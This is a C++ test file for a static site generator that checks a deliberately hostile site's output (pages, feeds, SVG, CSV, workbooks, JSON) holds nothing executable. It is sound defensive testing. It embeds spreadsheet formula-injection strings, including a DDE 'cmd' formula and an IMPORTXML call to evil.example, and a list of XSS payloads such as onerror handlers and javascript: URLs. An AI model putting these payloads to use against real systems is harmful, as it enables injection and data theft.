// The hostile site's finished files, read as browsers, feed readers and spreadsheets read them: no trick has left its
// place.
#include "hostile_site.h"
#include "strict_scan.h"
#include "tricks.h"

#include "diag/report.h"
#include "format/json.h"
#include "format/sheet.h"
#include "format/zip_reader.h"

#include <algorithm>
#include <cstring>
#include <gtest/gtest.h>
#include <pugixml.hpp>
#include <set>

namespace kolofon {
namespace {

const HostileSite& site() {
    static const HostileSite made = build_hostile_site(std::string(KOLOFON_SOURCE_DIR) + "/themes");
    return made;
}

TEST(Hostile, PagesHoldNothingThatRuns) {
    size_t pages = 0;
    for (const auto& [path, bytes] : site().pages) {
        if (!path.ends_with(".html")) continue;
        ++pages;
        for (const std::string& fault : strict_scan(bytes, false)) ADD_FAILURE() << path << ": " << fault;
    }
    std::printf("%zu tricks in %zu places, %zu pages\n", std::size(tricks), site().placed, pages);
    EXPECT_GT(pages, std::size(tricks));
}

/// Elements of feeds, sitemap, catalogue and charts that run something, and HTML in them that would.
void scan_xml(const std::string& path, const pugi::xml_node& node) {
    for (const pugi::xml_node child : node.children()) {
        const std::string_view name = child.name();
        EXPECT_TRUE(name != "script" && name != "foreignObject" && name != "iframe") << path << ": " << name;
        for (const pugi::xml_attribute attribute : child.attributes()) {
            const std::string_view key = attribute.name(), value = attribute.value();
            EXPECT_FALSE(key.starts_with("on") || key == "style") << path << ": " << key;
            const bool leads = key == "href" || key == "src" || key == "xlink:href";
            EXPECT_TRUE(!leads || is_harmless_address(value)) << path << ": " << value;
        }
        if (std::strcmp(child.attribute("type").value(), "html") == 0)
            for (const std::string& fault : strict_scan(child.text().get(), true))
                ADD_FAILURE() << path << ": " << fault;
        scan_xml(path, child);
    }
}

TEST(Hostile, FeedsAndChartsAreWellFormedAndHoldNothingThatRuns) {
    size_t files = 0;
    for (const auto& [path, bytes] : site().pages) {
        if (!path.ends_with(".xml") && !path.ends_with(".atom") && !path.ends_with(".rdf") && !path.ends_with(".svg"))
            continue;
        ++files;
        pugi::xml_document document;
        const auto read = document.load_buffer(bytes.data(), bytes.size());
        EXPECT_TRUE(read) << path << ": " << read.description();
        scan_xml(path, document);
    }
    EXPECT_GT(files, 10u);
}

/// Of each field of a CSV file the first character.
void scan_csv(const std::string& path, const std::string& text) {
    bool quoted = false, begins = true;
    for (size_t i = 0; i < text.size(); ++i) {
        const char c = text[i];
        if (begins && !quoted) {
            std::string_view field = std::string_view(text).substr(i, 40);
            if (field.starts_with('"')) field.remove_prefix(1);
            const size_t first = field.find_first_not_of(' ');
            const bool formula = first != field.npos && std::strchr("=+-@\t\r", field[first]) != nullptr;
            const bool number = field.size() > first + 1 && field[first] == '-' && field[first + 1] >= '0' &&
                                field[first + 1] <= '9' && field.find('|') == field.npos;
            EXPECT_TRUE(!formula || number) << path << ": " << field;
        }
        if (c == '"') quoted = !quoted;
        begins = !quoted && (c == ',' || c == '\n');
    }
}

TEST(Hostile, NoCellOfACsvIsAFormula) {
    size_t files = 0;
    for (const auto& [path, bytes] : site().pages)
        if (path.ends_with(".csv")) scan_csv(path, bytes), ++files;
    EXPECT_GT(files, 5u);
}

/// Every number of a cell is one, and what is no number points at a text.
void scan_cell(const std::string& where, const pugi::xml_node& cell) {
    const std::string_view kind = cell.attribute("t").value(), value = cell.child_value("v");
    EXPECT_TRUE(kind.empty() || kind == "s" || kind == "n") << where << ": a cell of the kind " << kind;
    EXPECT_EQ(value.find_first_not_of("0123456789.-"), value.npos) << where << ": " << value;
}

/// Only elements that our workbooks are made of, none of which computes, links or runs, and nothing but elements.
void scan_workbook_part(const std::string& where, const pugi::xml_node& node) {
    static const std::set<std::string_view> known = {"Types",
                                                     "Default",
                                                     "Override",
                                                     "Relationships",
                                                     "Relationship",
                                                     "Properties",
                                                     "Application",
                                                     "Company",
                                                     "cp:coreProperties",
                                                     "dc:title",
                                                     "dc:creator",
                                                     "dc:language",
                                                     "dcterms:created",
                                                     "workbook",
                                                     "bookViews",
                                                     "workbookView",
                                                     "sheets",
                                                     "sheet",
                                                     "sst",
                                                     "si",
                                                     "t",
                                                     "worksheet",
                                                     "dimension",
                                                     "sheetViews",
                                                     "sheetView",
                                                     "pane",
                                                     "selection",
                                                     "sheetFormatPr",
                                                     "cols",
                                                     "col",
                                                     "sheetData",
                                                     "row",
                                                     "c",
                                                     "v",
                                                     "pageMargins",
                                                     "mergeCells",
                                                     "mergeCell"};
    for (const pugi::xml_node child : node.children()) {
        const std::string_view name = child.name();
        if (child.type() == pugi::node_declaration || child.type() == pugi::node_pcdata) continue;
        EXPECT_EQ(child.type(), pugi::node_element) << where;
        EXPECT_TRUE(known.contains(name)) << where << ": " << name;
        if (name == "c") scan_cell(where, child);
        EXPECT_STREQ(child.attribute("TargetMode").value(), "") << where << ": leads out of the workbook";
        scan_workbook_part(where, child);
    }
}

/// The texts of all cells, as a spreadsheet program reads them.
std::multiset<std::string> texts_of(const std::string& path, const std::string& bytes) {
    std::multiset<std::string> texts;
    Findings findings;
    auto workbook = Workbook::open(path, bytes, findings);
    EXPECT_TRUE(workbook) << path;
    for (size_t i = 0; workbook && i < workbook->sheets().size(); ++i)
        if (const Sheet* sheet = workbook->sheet(i, findings))
            for (const SheetCell& cell : sheet->cells) {
                EXPECT_FALSE(cell.formula) << path << ": " << cell.text;
                if (cell.kind == SheetCellKind::Text) texts.insert(cell.text);
            }
    EXPECT_EQ(to_text(findings, {Language::English, false}), "") << path;
    return texts;
}

TEST(Hostile, WorkbooksHoldTextsAsTexts) {
    size_t files = 0, parts = 0;
    for (const auto& [path, bytes] : site().pages) {
        if (!path.ends_with(".xlsx")) continue;
        ++files;
        Findings findings;
        auto archive = ZipReader::open(bytes, path, findings);
        ASSERT_TRUE(archive) << path;
        for (const std::string& name : archive->names()) {
            const auto part = archive->read(name, findings);
            ASSERT_TRUE(part) << path << ": " << name;
            pugi::xml_document document;
            const auto read = document.load_buffer(part->data(), part->size(), pugi::parse_full);
            EXPECT_TRUE(read) << path << ": " << name << ": " << read.description();
            if (name != "xl/styles.xml") scan_workbook_part(path + ": " + name, document); // the same for every site
            ++parts;
        }
        if (!path.ends_with("/t.xlsx")) continue;
        const auto texts = texts_of(path, bytes);
        for (const char* formula : {"=1+1", "=cmd|' /C calc'!A0", "=IMPORTXML(\"https://evil.example\",\"//a\")"})
            EXPECT_GE(texts.count(formula), 2u) << path << ": " << formula;
    }
    std::printf("%zu workbooks of %zu parts\n", files, parts);
    EXPECT_GT(files, 5u);
}

TEST(Hostile, EveryJsonFileIsOne) {
    size_t files = 0;
    for (const auto& [path, bytes] : site().pages) {
        if (!path.ends_with(".json")) continue;
        ++files;
        Findings findings;
        const SourceFile file(path, bytes);
        EXPECT_TRUE(parse_json(file, findings)) << to_text(findings, {Language::English, false});
    }
    EXPECT_GT(files, 10u);
}

TEST(Hostile, FindingsShowNoEscapeSequences) {
    for (const Language language : {Language::Swedish, Language::English}) {
        const std::string text = to_text(site().findings, {language, false});
        EXPECT_GT(text.size(), 1000u);
        for (const char c : text) ASSERT_TRUE(static_cast<unsigned char>(c) >= 0x20 || c == '\n' || c == '\t');
        EXPECT_EQ(text.find("\xE2\x80\xAE"), std::string::npos) << "text turned around";
    }
}

TEST(Hostile, AFileNameThatIsMarkupIsRefused) {
    const auto& all = site().findings.all();
    EXPECT_TRUE(std::any_of(all.begin(), all.end(),
                            [](const Finding& finding) { return finding.code == Code::attachment_bad_name; }));
}

TEST(StrictScan, SeesWhatItIsFor) {
    for (const char* bad :
         {"<script>a()</script>", "<img src=x onerror=a()>", "<svg><a xlink:href='javascript:a()'>x</a></svg>",
          "<b style='x'>a</b>", "<iframe></iframe>", "<img src='//evil.example/x'>",
          "<a href=' java\nscript:a()'>x</a>", "<link rel=stylesheet href=https://evil.example/x>", "<base href=/>",
          "<meta http-equiv=refresh content=0>", "<script type='application/ld+json'>{\"a\":\"<b\"}</script>",
          "<!-- x -->", "<q cite='data:text/html,x'>a</q>"})
        EXPECT_FALSE(strict_scan(bad, false).empty()) << bad;
    EXPECT_TRUE(strict_scan("<p><a href='https://a.se/?a=b:c'>x</a> <a href='a/b:c.html#d'>y</a></p>", true).empty());
    EXPECT_FALSE(strict_scan("<h1>x</h1>", true).empty());
    EXPECT_TRUE(reads_as_written("<p>a <b>c</b></p><ul><li>d</li></ul>"));
    EXPECT_FALSE(reads_as_written("<p><div>a</div></p><p></p><table><b>x</b></table>"));
}

} // namespace
} // namespace kolofon
